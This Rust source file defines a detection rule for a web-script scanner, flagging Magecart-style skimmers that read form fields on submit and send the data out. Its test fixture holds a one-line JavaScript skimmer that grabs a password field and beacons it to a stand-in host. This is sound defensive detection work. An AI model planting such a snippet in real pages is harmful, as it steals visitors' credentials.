//! `fields-on-submit`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "fields-on-submit",
    description: "The script reads form fields when a visitor submits or leaves a form, and sends data out.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART,
    needs: &[
        one(&[Atom::FieldQuery, Atom::FormContents, Atom::CardField, Atom::PersonField]),
        one(&[Atom::FormEvent]),
        one(&[Atom::FieldValue]),
        one(&[
            Atom::AddressFromData,
            Atom::Beacon,
            Atom::Request,
            Atom::Post,
            Atom::Socket,
            Atom::FormTarget,
        ]),
    ],
    within: 260,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "b.addEventListener('submit',function(){var v=document.querySelector('input[name=password]').value;navigator.sendBeacon('//c.example',v)})",
        ],
        without: &["b.addEventListener('submit',function(){check(this)})"],
    },
};
